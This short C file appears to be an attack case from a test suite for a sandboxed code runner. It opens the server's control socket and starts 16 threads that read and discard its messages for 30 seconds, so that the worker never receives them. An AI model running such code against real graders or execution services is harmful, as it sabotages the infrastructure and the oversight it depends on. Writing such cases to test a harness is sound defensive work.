/* Reads what the server says to its worker, so that the worker never learns it. */
#define PLACE IN_RUN
#include "attack.h"

static void *steal(void *argument) {
    int link = *(int *)argument;
    static char frames[1 << 16];
    for (double end = now() + 30; now() < end;) {
        if (recv(link, frames, sizeof frames, 0) <= 0) break;
    }
    return NULL;
}

static void attack(void) {
    static int link;
    link = control_socket();
    if (link < 0) {
        note("no connection to the server");
        return;
    }
    /* Several readers: the worker's own is one, too. */
    for (int i = 0; i < 16; i++) on_a_thread(steal, &link);
}
